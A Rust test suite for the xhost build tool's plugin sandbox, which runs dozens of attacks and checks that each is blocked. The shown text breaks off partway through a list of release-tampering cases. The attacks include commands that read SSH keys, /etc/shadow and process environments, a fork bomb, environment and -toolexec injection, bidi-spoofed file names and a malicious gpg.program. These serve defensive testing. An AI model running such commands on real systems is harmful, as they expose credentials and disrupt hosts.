//! The hostile-plugin suite: purpose-built plugins (`probe` in the least privileged
//! world, `exec-probe` running granted programs) attack the host, one attack per
//! project. Every attack must end blocked, with a clear error from a host that carries
//! on, nothing written outside the invocation's `/out`, and the previous `dist/`
//! intact. The suite prints its table (attack, layer, expected, observed) and writes it
//! to `target/hostile-report.md`; `docs/SECURITY.md` lists the same attacks.
//!
//! The probes report `blocked: …` when refused and `ESCAPED: …` when not, so a hole
//! can never pass for a refusal.

mod support;

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use support::{Project, Run, sha256, snapshot, test_plugin};

/// Characters that display as something else: bidi controls, zero-width and other
/// format characters, line and paragraph separators.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{061c}' | '\u{feff}')
}

/// A secret in the environment of every attacked `xhost`; no plugin or program may see it.
const CANARY: &str = "xhost-canary-7f3a91";
/// Attacks run at once (each is a separate `xhost` process).
const WORKERS: usize = 3;

/// One attack.
struct Attack {
    name: &'static str,
    /// What stops it.
    layer: &'static str,
    plugin: &'static str,
    /// Extra lines for the `[[stage]]` table (grants, limits).
    stage: &'static str,
    /// The `[stage.config]` table's lines; `{home}`, `{other}`, `{src}`, `{port}`,
    /// `{outside}` and `{canary_pattern}` are filled in.
    config: &'static str,
    /// Text stderr must contain.
    expect: &'static [&'static str],
    /// How xhost is started: what it inherits from its parent.
    launch: Launch,
    /// Project-level tables (signing keys, provenance), with `{key}` filled in.
    project: &'static str,
    /// `[[stage]]` tables before and after the attack's, with `{probe_sha}` filled in.
    before: &'static str,
    after: &'static str,
    /// The stage the error must name.
    failing: &'static str,
    /// Done to the project after it is written, given the path nothing may write.
    prepare: Option<fn(&Project, &Path)>,
}

impl Attack {
    fn launched(mut self, launch: Launch) -> Self {
        self.launch = launch;
        self
    }

    fn in_project(mut self, tables: &'static str) -> Self {
        self.project = tables;
        self
    }

    fn after_stage(mut self, before: &'static str) -> Self {
        self.before = before;
        self
    }

    fn prepared(mut self, prepare: fn(&Project, &Path)) -> Self {
        self.prepare = Some(prepare);
        self
    }

    fn before_stage(mut self, after: &'static str, failing: &'static str) -> Self {
        self.after = after;
        self.failing = failing;
        self
    }
}

/// What xhost's parent process hands it, as a CI runner or a wrapper script might.
#[derive(Clone, Copy, PartialEq)]
enum Launch {
    Plain,
    /// Descriptor 7 open on a secret file.
    Descriptor,
    /// A session keyring holding a secret key (`user` type, `xhost-test-key`).
    SessionKey,
    /// The secret on stdin.
    Stdin,
    /// A terminal (a pty from `script`) as stdin, stdout and stderr.
    Terminal,
    /// SIGHUP and SIGUSR1 ignored, SIGUSR2 blocked.
    Signals,
    /// umask 000.
    Umask,
}

const SH: &str = "grants = { exec = [\"sh\"], source = true }";

/// A signing key (`release`) outside the project, and provenance signed with it.
const RELEASE_KEY: &str = "[signing.keys.release]\nfile = \"{key}\"\n";
const PROVENANCE_BY_RELEASE_KEY: &str =
    "[signing.keys.release]\nfile = \"{key}\"\n\n[provenance]\nkey = \"release\"\n";

fn attacks() -> Vec<Attack> {
    let a = |name, layer, plugin, stage, config, expect| Attack {
        name,
        layer,
        plugin,
        stage,
        config,
        expect,
        launch: Launch::Plain,
        project: "",
        before: "",
        after: "",
        failing: "attack",
        prepare: None,
    };
    let syscall = |name, layer, call, expect| a(name, layer, "exec-probe", SH, call, expect);
    vec![
        // The plugin itself, in the wasm sandbox.
        a(
            "plugin reads an absolute path (/etc/passwd)",
            "WASI: no preopen but /in, /out",
            "probe",
            "",
            "action = \"read-passwd\"",
            &["blocked: reading /etc/passwd"],
        ),
        a(
            "plugin traverses out of /in (/in/../../etc/passwd)",
            "WASI: paths resolved inside the preopen",
            "probe",
            "",
            "action = \"read-parent\"",
            &["blocked: reading /in/../../etc/passwd"],
        ),
        a(
            "plugin reads /src without the grant",
            "grants: /src is only mounted with `source`",
            "probe",
            "",
            "action = \"read-src\"",
            &["blocked: reading /src/go.mod"],
        ),
        a(
            "plugin opens a TCP connection to 127.0.0.1",
            "WASI: sockets denied",
            "probe",
            "",
            "action = \"socket\"\nport = {port}",
            &["blocked:", "access-denied"],
        ),
        a(
            "plugin resolves a host name",
            "WASI: name lookup denied",
            "probe",
            "",
            "action = \"name-lookup\"",
            &["blocked: resolving localhost"],
        ),
        a(
            "plugin reads environment, arguments, stdin",
            "WASI: empty environment, no args, closed stdin",
            "probe",
            "",
            "action = \"env-args\"",
            &["blocked: environment, arguments and stdin: all empty"],
        ),
        a(
            "plugin never returns (busy loop)",
            "epoch deadline (limits.time_secs)",
            "probe",
            "limits = { time_secs = 1 }",
            "action = \"endless-loop\"",
            &["ran longer than its time limit of 1 s", "limits.time_secs"],
        ),
        a(
            "plugin never returns (sleeps in a host call)",
            "the async call is dropped at the time limit (limits.time_secs)",
            "probe",
            "limits = { time_secs = 1 }",
            "action = \"sleep-forever\"",
            &["ran longer than its time limit of 1 s"],
        ),
        a(
            "memory bomb in the plugin",
            "memory limiter (limits.memory_mib)",
            "probe",
            "limits = { memory_mib = 64 }",
            "action = \"memory-bomb\"",
            &["over its limit of 64 MiB", "limits.memory_mib"],
        ),
        a(
            "plugin traps mid-write",
            "trap caught; partial /out discarded",
            "probe",
            "",
            "action = \"trap-mid-write\"",
            &["the plugin crashed", "unreachable"],
        ),
        a(
            "plugin fills the disk past the output quota",
            "quota watcher (limits.output_mib)",
            "probe",
            "limits = { output_mib = 8 }",
            "action = \"disk-fill\"",
            &[
                "wrote more than 8 MiB",
                "limits.output_mib",
                "the plugin was stopped",
            ],
        ),
        a(
            "plugin creates millions of tiny files",
            "quota watcher (limits.output_files)",
            "probe",
            "limits = { output_files = 2000 }",
            "action = \"many-files\"",
            &["created more than 2000 files", "limits.output_files"],
        ),
        a(
            "plugin returns a 10 GiB sparse file",
            "quota (apparent size, limits.output_mib)",
            "probe",
            "",
            "action = \"sparse\"",
            &["wrote more than 4096 MiB", "limits.output_mib"],
        ),
        a(
            "plugin returns a huge artifact list",
            "output checks (at most 10000 artifacts)",
            "probe",
            "",
            "action = \"huge-list\"",
            &["returned 200000 artifacts; at most 10000"],
        ),
        a(
            "plugin returns an artifact outside /out",
            "output checks",
            "probe",
            "",
            "action = \"artifact-outside\"",
            &["`/etc/passwd`, which is not under /out"],
        ),
        a(
            "plugin returns an artifact path with ..",
            "output checks",
            "probe",
            "",
            "action = \"artifact-parent\"",
            &["`/out/../in/x` is not a plain relative path under /out"],
        ),
        a(
            "plugin plants a symlink in /out to /etc/passwd",
            "WASI refuses; output checks never follow links",
            "probe",
            "",
            "action = \"symlink-out\"",
            &["/out/passwd"],
        ),
        a(
            "plugin floods the log with escapes and CI commands",
            "log sanitizer and cap",
            "probe",
            "",
            "action = \"log-escapes\"",
            &[
                "(ci command neutralised) ::add-mask::secret-value",
                "more log lines dropped",
            ],
        ),
        a(
            "plugin panics",
            "trap caught",
            "probe",
            "",
            "action = \"panic\"",
            &["the plugin crashed", "the probe was told to panic"],
        ),
        // What the plugin asks `exec` to do.
        a(
            "exec of a program not granted",
            "exec grants",
            "exec-probe",
            SH,
            "action = \"ungranted\"",
            &["blocked: running curl: not-granted", "grants.exec"],
        ),
        a(
            "exec of a program by path",
            "exec grants (names, not paths)",
            "exec-probe",
            SH,
            "action = \"path-program\"",
            &["blocked: running /bin/sh by path: not-granted"],
        ),
        a(
            "exec output argument escaping /out (../../escape)",
            "exec argument checks",
            "exec-probe",
            SH,
            "action = \"output-escape\"",
            &["bad-argument: path `../../escape` leaves /out"],
        ),
        a(
            "exec output argument with an absolute path",
            "exec argument checks",
            "exec-probe",
            SH,
            "action = \"output-absolute\"",
            &["bad-argument: path `/tmp/escape` is not under /out"],
        ),
        a(
            "exec text argument smuggling a path",
            "exec argument checks",
            "exec-probe",
            SH,
            "action = \"text-path\"",
            &["bad-argument: text argument `/etc/passwd` holds an absolute path"],
        ),
        a(
            "exec text flag smuggling a path (-o=/tmp/x)",
            "exec argument checks",
            "exec-probe",
            SH,
            "action = \"text-flag-path\"",
            &["bad-argument: text argument `-o=/tmp/x`"],
        ),
        a(
            "exec source argument escaping /src",
            "exec argument checks",
            "exec-probe",
            SH,
            "action = \"source-escape\"",
            &["bad-argument: path `../../etc/passwd` leaves /src"],
        ),
        a(
            "environment injection: LD_PRELOAD",
            "exec environment allow-list",
            "exec-probe",
            SH,
            "action = \"env-ld-preload\"",
            &["env-denied: environment variable `LD_PRELOAD` may not be set"],
        ),
        a(
            "environment injection: PATH",
            "exec environment allow-list",
            "exec-probe",
            SH,
            "action = \"env-path\"",
            &["env-denied: environment variable `PATH` may not be set"],
        ),
        a(
            "environment injection: GOFLAGS=-toolexec",
            "exec environment allow-list",
            "exec-probe",
            SH,
            "action = \"env-goflags\"",
            &["env-denied: GOFLAGS entry `-toolexec=evil` is not allowed"],
        ),
        a(
            "tool runs past its time limit",
            "wall-clock timeout kills the process tree",
            "exec-probe",
            "grants = { exec = [\"sh\"], source = true }\nlimits = { exec_time_secs = 1 }",
            "action = \"timeout\"",
            &["timed-out: `sh` ran longer than 1 s and was killed"],
        ),
        // What a granted program does once running, in the tool sandbox.
        a(
            "tool reads ~/.ssh",
            "tool sandbox: new root (the home is not there), Landlock",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat {home}/.ssh/id_ed25519\"",
            &["blocked: the script: exit Some(1)", "No such file"],
        ),
        a(
            "tool lists /root",
            "tool sandbox: new root",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"ls /root\"",
            &["blocked: the script", "No such file"],
        ),
        a(
            "tool reads /etc/shadow",
            "tool sandbox: new root (only ld.so, TLS and name service files of /etc)",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat /etc/shadow\"",
            &["blocked: the script", "No such file"],
        ),
        a(
            "tool reads another project's xhost cache",
            "tool sandbox: only this project's tool cache is mounted",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat {other}\"",
            &["blocked: the script", "No such file"],
        ),
        a(
            "tool reads the host's /proc/*/environ",
            "tool sandbox: PID namespace with its own /proc",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat /proc/[0-9]*/environ | tr '\\\\0' '\\\\n' | grep '{canary_pattern}'\"",
            &["blocked: the script: exit Some(1)"],
        ),
        a(
            "tool connects to a listener on 127.0.0.1 without `net`",
            "Landlock TCP rules, then a network namespace with only a downed loopback",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'\"",
            &["blocked: the script", "connect: Permission denied"],
        ),
        a(
            "tool writes into the source tree",
            "tool sandbox: source mounted read-only, Landlock",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"echo pwned > {src}/planted\"",
            &["blocked: the script", "Read-only file system"],
        ),
        a(
            "tool writes outside every mount",
            "tool sandbox: read-only new root",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"echo pwned > {outside}\"",
            &["blocked: the script"],
        ),
        a(
            "tool writes into its own installation",
            "tool sandbox: installation read-only",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"touch /usr/bin/xhost-planted\"",
            &["blocked: the script", "Read-only file system"],
        ),
        a(
            "fork bomb via a granted tool",
            "RLIMIT_NPROC (limits.exec_processes), as nobody",
            "exec-probe",
            "grants = { exec = [\"sh\"], source = true }\nlimits = { exec_processes = 200, exec_time_secs = 60 }",
            "action = \"script\"\nscript = \"i=0; while [ $i -lt 100000 ]; do sleep 313 & i=$((i+1)); done\"",
            &["blocked: the script", "Cannot fork"],
        ),
        a(
            "memory bomb in the native child",
            "RLIMIT_AS (limits.exec_memory_mib)",
            "exec-probe",
            "grants = { exec = [\"sh\"], source = true }\nlimits = { exec_memory_mib = 256 }",
            "action = \"script\"\nscript = \"awk 'BEGIN { s = \\\"x\\\"; while (1) s = s s }'\"",
            &["blocked: the script", "out of memory"],
        ),
        a(
            "tool makes a 10 GiB sparse file",
            "RLIMIT_FSIZE (limits.output_mib)",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"truncate -s 10G $1\"",
            &["blocked: the script", "File size limit exceeded"],
        ),
        a(
            "tool fills the disk past the output quota",
            "quota watcher kills the program",
            "exec-probe",
            "grants = { exec = [\"sh\"], source = true }\nlimits = { output_mib = 16 }",
            "action = \"script\"\nscript = \"for i in $(seq 100); do head -c 4M /dev/zero > $1.$i; done; sleep 30\"",
            &["wrote more than 16 MiB", "limits.output_mib"],
        ),
        a(
            "tool creates millions of tiny files",
            "quota watcher (limits.output_files)",
            "exec-probe",
            "grants = { exec = [\"sh\"], source = true }\nlimits = { output_files = 2000 }",
            "action = \"script\"\nscript = \"mkdir $1 && cd $1 && seq 1000000 | xargs touch; sleep 30\"",
            &["created more than 2000 files", "limits.output_files"],
        ),
        a(
            "tool plants a symlink in /out to /etc/passwd",
            "output checks never follow links",
            "exec-probe",
            SH,
            "action = \"script-returns\"\nscript = \"ln -s /etc/passwd $1\"\nreturns = [\"result\"]",
            &["returned artifact `/out/result` goes through a symlink"],
        ),
        a(
            "tool hard-links a file from outside into /out",
            "tool sandbox: separate mounts (EXDEV), Landlock",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"ln {src}/go.mod $1\"",
            &["blocked: the script", "ln:"],
        ),
        a(
            "tool leaves a FIFO in /out",
            "output checks (regular files only, never opened)",
            "exec-probe",
            SH,
            "action = \"script-returns\"\nscript = \"mkfifo $1\"\nreturns = [\"result\"]",
            &["returned artifact `/out/result` is not a regular file"],
        ),
        a(
            "tool makes a device node in /out",
            "no capabilities (nobody), Landlock denies device nodes",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"mknod $1 c 1 3\"",
            &["blocked: the script", "mknod:"],
        ),
        a(
            "tool kills every process it can see",
            "PID namespace: only the tool's own tree",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"kill -KILL -1; echo survived >&2; exit 1\"",
            &["blocked: the script", "survived"],
        ),
        a(
            "tool mounts over /out",
            "no capabilities, no_new_privs, Landlock",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"mount -t tmpfs none $(dirname $1)\"",
            &["blocked: the script", "mount"],
        ),
        a(
            "argument injection making go write outside /out (-toolexec)",
            "tool sandbox: read-only root and source",
            "exec-probe",
            "grants = { exec = [\"go\"], source = true }",
            "action = \"run\"\nprogram = \"go\"\nargs = [\"build\", \"-o\", \"{out}\", \"-toolexec=/bin/sh -c 'echo pwned > {outside} && exec \\\"$0\\\" \\\"$@\\\"'\", \".\"]",
            &["blocked: running go", "exit Some(1)"],
        ),
        // What a program inherits from xhost and from whatever started xhost.
        a(
            "tool reads a descriptor xhost inherited from its parent",
            "xhost marks inherited descriptors close-on-exec; the launcher closes them",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat <&7\"",
            &["blocked: the script", "Bad file descriptor"],
        )
        .launched(Launch::Descriptor),
        a(
            "tool reads a key from the session keyring xhost runs in",
            "seccomp denies keyring calls; a fresh session keyring; no /proc/keys",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"python3 syscalls.py keyring\"",
            &[
                "keyring: request_key: Operation not permitted",
                "/proc/keys: No such file",
            ],
        )
        .launched(Launch::SessionKey),
        a(
            "tool reads xhost's stdin",
            "programs get /dev/null as stdin",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"if grep -q '{canary_pattern}'; then echo leaked; exit 0; fi; echo 'stdin held nothing' >&2; exit 1\"",
            &["blocked: the script", "stdin held nothing"],
        )
        .launched(Launch::Stdin),
        a(
            "tool types into xhost's terminal (TIOCSTI, /dev/tty)",
            "no /dev/tty in the new root, no terminal descriptor, seccomp denies TIOCSTI",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"python3 syscalls.py terminal\"",
            &[
                "/dev/tty: No such file",
                "TIOCSTI on fd 0: Operation not permitted",
            ],
        )
        .launched(Launch::Terminal),
        a(
            "tool inherits ignored and blocked signals from the runner",
            "the launcher resets every signal action and the mask",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"if grep -qE '^Sig(Ign|Blk):\\\\s+0*[1-9a-f]' /proc/self/status; then grep Sig /proc/self/status; exit 0; fi; echo 'signals: default actions, none blocked' >&2; exit 1\"",
            &["signals: default actions, none blocked"],
        )
        .launched(Launch::Signals),
        a(
            "tool inherits the runner's umask 000 (world-writable caches)",
            "the launcher sets umask 022",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"u=$(umask); if [ $u != 0022 ]; then echo umask $u; exit 0; fi; echo umask $u >&2; exit 1\"",
            &["blocked: the script", "umask 0022"],
        )
        .launched(Launch::Umask),
        a(
            "tool learns the runner's host name and cgroup",
            "UTS and cgroup namespaces",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"if uname -n | grep -qx '{hostname}' || grep -qF '{cgroup}' /proc/self/cgroup; then echo found; exit 0; fi; echo host $(uname -n) >&2; exit 1\"",
            &["blocked: the script", "host xhost-sandbox"],
        ),
        a(
            "tool reads kernel-wide /proc files (keys, kallsyms, sys)",
            "/proc mounted with subset=pid",
            "exec-probe",
            SH,
            "action = \"script\"\nscript = \"cat /proc/keys /proc/kallsyms /proc/sys/kernel/hostname\"",
            &["blocked: the script", "/proc/keys: No such file"],
        ),
        a(
            "plugin looks for inherited state (preopens, working directory, terminals)",
            "WASI: only its mounts, nothing of the host process",
            "probe",
            "",
            "action = \"inherited\"",
            &["blocked: looking for inherited state"],
        ),
        // Kernel surface, through real system calls.
        syscall(
            "tool sets up io_uring",
            "seccomp: io_uring_setup",
            "action = \"script\"\nscript = \"python3 syscalls.py io_uring_setup\"",
            &["io_uring_setup: Operation not permitted"],
        ),
        syscall(
            "tool opens a perf event on itself",
            "seccomp: perf_event_open",
            "action = \"script\"\nscript = \"python3 syscalls.py perf_event_open\"",
            &["perf_event_open: Operation not permitted"],
        ),
        syscall(
            "tool creates a BPF map",
            "seccomp: bpf (also kernel.unprivileged_bpf_disabled)",
            "action = \"script\"\nscript = \"python3 syscalls.py bpf\"",
            &["bpf: Operation not permitted"],
        ),
        syscall(
            "tool creates a userfaultfd",
            "seccomp: userfaultfd",
            "action = \"script\"\nscript = \"python3 syscalls.py userfaultfd\"",
            &["userfaultfd: Operation not permitted"],
        ),
        syscall(
            "tool attaches ptrace to another process of the sandbox",
            "seccomp: ptrace",
            "action = \"script\"\nscript = \"python3 syscalls.py ptrace\"",
            &["ptrace: Operation not permitted"],
        ),
        syscall(
            "tool creates a user namespace (unshare)",
            "seccomp: unshare",
            "action = \"script\"\nscript = \"python3 syscalls.py unshare\"",
            &["unshare: Operation not permitted"],
        ),
        syscall(
            "tool creates a user namespace with clone(CLONE_NEWUSER)",
            "seccomp: clone with CLONE_NEW* flags",
            "action = \"script\"\nscript = \"python3 syscalls.py clone\"",
            &["clone: Operation not permitted"],
        ),
        syscall(
            "tool creates a user namespace with clone3",
            "seccomp: clone3 (ENOSYS)",
            "action = \"script\"\nscript = \"python3 syscalls.py clone3\"",
            &["clone3: Function not implemented"],
        ),
        syscall(
            "tool calls keyctl through the x32 ABI",
            "seccomp: x32 numbers denied too (and kernels without x32)",
            "action = \"script\"\nscript = \"python3 syscalls.py x32\"",
            &["blocked: the script", "x32: "],
        ),
        // Signing as an oracle.
        a(
            "plugin has the host sign a forged DSSE envelope",
            "signing refuses DSSE pre-authentication encodings for plugins",
            "signer-probe",
            "grants = { signing = [\"release\"] }",
            "granted = \"release\"\naction = \"forge-dsse\"",
            &[
                "blocked: signing a forged DSSE envelope",
                "only xhost itself signs",
            ],
        )
        .in_project(RELEASE_KEY),
        a(
            "a plugin without grants gets a forged DSSE envelope signed by the sign stage",
            "signing refuses DSSE pre-authentication encodings for plugins",
            "probe",
            "",
            "action = \"write\"\nfile = \"forged_checksums.txt\"\nkind = \"checksum\"\ncontent = \"DSSEv1 28 application/vnd.in-toto+json 2 {}\"",
            &["signing refused", "DSSE pre-authentication encoding"],
        )
        .in_project(RELEASE_KEY)
        .before_stage(
            "[[stage]]\nname = \"sign\"\nplugin = \"builtin:sign\"\ngrants = { signing = [\"release\"] }\n[stage.config]\nkeys = [\"release\"]\n",
            "sign",
        ),
        a(
            "the provenance key granted to a stage",
            "config: the provenance key is never granted",
            "signer-probe",
            "grants = { signing = [\"release\"] }",
            "granted = \"release\"\naction = \"forge-dsse\"",
            &["key `release` signs the release's provenance"],
        )
        .in_project(PROVENANCE_BY_RELEASE_KEY),
        a(
            "the provenance key granted under a second id",
            "plan: no stage key may equal the provenance key",
            "signer-probe",
            "grants = { signing = [\"copy\"] }",
            "granted = \"copy\"\naction = \"forge-dsse\"",
            &["signing key `copy` is the same key as `release`"],
        )
        .in_project(
            "[signing.keys.release]\nfile = \"{key}\"\n\n[signing.keys.copy]\nfile = \"{key}\"\n\n[provenance]\nkey = \"release\"\n",
        ),
        a(
            "plugin publishes a file at the provenance's path",
            "output checks: the name is reserved for the host",
            "probe",
            "",
            "action = \"write\"\nfile = \"victim_1.0.0.intoto.jsonl\"\nkind = \"archive\"\ncontent = \"{}\"",
            &["a name xhost reserves for the release's provenance"],
        ),
        // Replacing what another stage made.
        a(
            "a stage replaces an archive it did not consume",
            "pipeline: only consumers may replace an artifact",
            "probe",
            "",
            "action = \"write\"\nfile = \"victim_1.0.0_linux_amd64.tar.gz\"\nkind = \"archive\"\ncontent = \"evil\"",
            &[
                "stage `attack` wrote `victim_1.0.0_linux_amd64.tar.gz`, which stage `maker` made and `attack` did not consume",
            ],
        )
        .after_stage(
            "[[stage]]\nname = \"maker\"\nplugin = \"probe.wasm\"\nsha256 = \"{probe_sha}\"\n[stage.config]\naction = \"write\"\nfile = \"victim_1.0.0_linux_amd64.tar.gz\"\nkind = \"archive\"\ncontent = \"genuine\"\n",
        ),
        // Names that read as something else.
        a(
            "plugin names an output with a line separator (U+2028)",
            "output checks: no line/paragraph separators or format characters",
            "probe",
            "",
            "action = \"write\"\nfile = \"notes\\u2028evil.txt\"",
            &["is not a plain relative path", "notes<U+2028>evil.txt"],
        ),
        a(
            "plugin names an output with a bidi override (U+202E)",
            "output checks: no line/paragraph separators or format characters",
            "probe",
            "",
            "action = \"write\"\nfile = \"invoice\\u202Etxt.exe\"",
            &["is not a plain relative path", "invoice<U+202E>txt.exe"],
        ),
        a(
            "plugin's error message carries escapes and a paragraph separator",
            "errors are sanitised when printed",
            "probe",
            "",
            "action = \"fail-with\"\nmessage = \"\\u001b]0;pwned\\u0007\\u001b[2Jfailed\\u2029::error::forged\"",
            &["failed<U+2029>::error::forged"],
        ),
        // xhost's own child processes.
        a(
            "a repository whose config runs a program when git reads the commit (gpg.program)",
            "xhost reads the commit with git plumbing that runs nothing the repository configures",
            "probe",
            "",
            "action = \"fail-with\"\nmessage = \"the build went on\"",
            &["the build went on"],
        )
        .prepared(hostile_repository),
    ]
}

/// Makes the project a git repository whose HEAD carries a (made-up) signature and
/// whose config has `git log` verify it with a "gpg" that writes `outside`.
fn hostile_repository(project: &Project, outside: &Path) {
    project.write(
        "fake-gpg",
        format!("#!/bin/sh\necho pwned > {}\n", outside.display()),
    );
    support::run_script(
        &project.dir,
        "chmod +x fake-gpg\n\
         git init -q\n\
         git add -A\n\
         git -c user.email=a@example.com -c user.name=a commit -q -m base\n\
         tree=$(git cat-file commit HEAD | sed -n 's/^tree //p')\n\
         printf 'tree %s\\nauthor a <a@example.com> 1700000000 +0000\\ncommitter a <a@example.com> 1700000000 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n \\n AAAA\\n -----END PGP SIGNATURE-----\\n\\nsigned\\n' $tree > .git/signed-commit.txt\n\
         git update-ref HEAD $(git hash-object -t commit -w .git/signed-commit.txt)\n\
         git config log.showSignature true\n\
         git config gpg.program \"$PWD/fake-gpg\"",
    );
}

/// What an attack left behind.
struct Row {
    name: &'static str,
    layer: &'static str,
    expected: String,
    observed: String,
    failures: Vec<String>,
}

struct Scene {
    home: PathBuf,
    other: PathBuf,
    port: u16,
    outside_root: PathBuf,
    /// A file holding the canary, outside every project.
    secret: PathBuf,
    /// A P-256 signing key outside every project.
    key: PathBuf,
    /// The machine's host name, and the longest cgroup path xhost itself is in.
    hostname: String,
    cgroup: String,
}

#[test]
fn every_attack_is_blocked() {
    let scene = scene();
    let listener = TcpListener::bind(("127.0.0.1", scene.port)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let attacks = attacks();
    assert!(
        attacks.len() >= 25,
        "the suite must hold at least 25 attacks"
    );
    let next = AtomicUsize::new(0);
    let rows = Mutex::new(BTreeMap::new());
    std::thread::scope(|s| {
        for _ in 0..WORKERS {
            s.spawn(|| {
                while let Some(attack) = attacks.get(next.fetch_add(1, Ordering::SeqCst)) {
                    let row = run_attack(attack, &scene);
                    rows.lock().unwrap().insert(attack.name, row);
                }
            });
        }
    });
    assert!(
        listener.accept().is_err(),
        "something reached the test's listener"
    );
    let rows = rows.into_inner().unwrap();
    let ordered: Vec<&Row> = attacks.iter().map(|a| &rows[a.name]).collect();
    report(
        &ordered,
        1,
        "hostile-report.md",
        "attacks not blocked as expected",
    );
}

/// Prints the table of `rows` (numbered from `first`), writes it to `target/<file>`,
/// and fails listing every row that did not end as expected.
fn report(rows: &[&Row], first: usize, file: &str, failure: &str) {
    let table = render(rows, first);
    println!("{table}");
    std::fs::write(
        Path::new(env!("CARGO_TARGET_TMPDIR")).join("..").join(file),
        &table,
    )
    .unwrap();
    let failed: Vec<String> = rows
        .iter()
        .filter(|r| !r.failures.is_empty())
        .map(|r| format!("{}:\n  {}", r.name, r.failures.join("\n  ")))
        .collect();
    assert!(failed.is_empty(), "{failure}:\n{}", failed.join("\n"));
}

#[test]
fn the_security_doc_lists_every_attack() {
    let doc = std::fs::read_to_string(support::workspace().join("docs/SECURITY.md")).unwrap();
    let missing: Vec<&str> = attacks()
        .iter()
        .map(|a| a.name)
        .chain(tamperings().iter().map(|t| t.name))
        .filter(|name| !doc.contains(name))
        .collect();
    assert!(missing.is_empty(), "docs/SECURITY.md lacks: {missing:#?}");
}

/// One way of tampering with a published, signed release; `xhost verify` must fail
/// and name what is wrong, whatever the attacker did to `artifacts.json` to cover up.
struct Tampering {
    name: &'static str,
    layer: &'static str,
    /// Changes the copy of the release at the given path.
    tamper: fn(&Path, &SignedRelease),
    /// The keys given to `xhost verify`.
    keys: &'static [&'static str],
    require_provenance: bool,
    /// Text stdout must contain.
    expect: &'static [&'static str],
}

const ALL_KEYS: &[&str] = &["cosign.pub", "mini.pub", "provenance.pub"];
const ARCHIVE: &str = "hello_1.0.0_linux_amd64.tar.gz";
const SUMS: &str = "hello_1.0.0_checksums.txt";
const ATTESTATION: &str = "hello_1.0.0.intoto.jsonl";

fn tamperings() -> Vec<Tampering> {
    let t = |name, layer, tamper, keys, expect| Tampering {
        name,
        layer,
        tamper,
        keys,
        require_provenance: true,
        expect,
    };
    vec![
        t(
            "release relabelled: checksums and provenance listed as `other`, an archive swapped",
            "verify: kinds come from the files, not artifacts.json",
            |dist, _| {
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                cover_up(dist, &[(SUMS, "other"), (ATTESTATION, "other")]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: does not match hello_1.0.0_checksums.txt",
                "subject hello_1.0.0_linux_amd64.tar.gz: sha256 differs",
            ],
        ),
        t(
            "release stripped of checksums, signatures and provenance, an archive swapped",
            "verify: every file covered by a signature; every key must have signed something",
            |dist, _| {
                for file in std::fs::read_dir(dist).unwrap() {
                    let name = file.unwrap().file_name().into_string().unwrap();
                    if name.starts_with(SUMS) || name == ATTESTATION {
                        std::fs::remove_file(dist.join(name)).unwrap();
                    }
                }
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: not covered",
                "cosign.pub: this key verified no signature or attestation",
                "no provenance attestation verifies",
            ],
        ),
        t(
            "a signature removed (.minisig)",
            "verify: every key must have signed something; provenance subjects",
            |dist, _| {
                std::fs::remove_file(dist.join(format!("{SUMS}.minisig"))).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "subject hello_1.0.0_checksums.txt.minisig is missing from the release",
                "mini.pub: this key verified no signature or attestation",
            ],
        ),
        t(
            "the provenance removed",
            "verify: --require provenance; every key must have signed something",
            |dist, _| {
                std::fs::remove_file(dist.join(ATTESTATION)).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "no provenance attestation verifies (--require provenance)",
                "provenance.pub: this key verified no signature or attestation",
            ],
        ),
        t(
            "a checksums line removed",
            "verify: the checksums file's signatures and the provenance's digest",
            |dist, _| {
                remove_sums_line(dist);
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_checksums.txt.sig: the signature does not verify",
                "subject hello_1.0.0_checksums.txt: sha256 differs",
            ],
        ),
        Tampering {
            require_provenance: false,
            ..t(
                "a checksums line removed from a release without provenance",
                "verify: files a signed checksums file no longer covers are named",
                |dist, _| {
                    std::fs::remove_file(dist.join(ATTESTATION)).unwrap();
                    remove_sums_line(dist);
                    cover_up(dist, &[]);
                },
                &["cosign.pub", "mini.pub"],
                &[
                    "FAIL  hello_1.0.0_linux_amd64.tar.gz: not covered",
                    "FAIL  hello_1.0.0_checksums.txt.minisig: the signature does not verify",
                ],
            )
        },
        t(
            "a file added to the release and to artifacts.json",
            "verify: every file covered by a signature",
            |dist, _| {
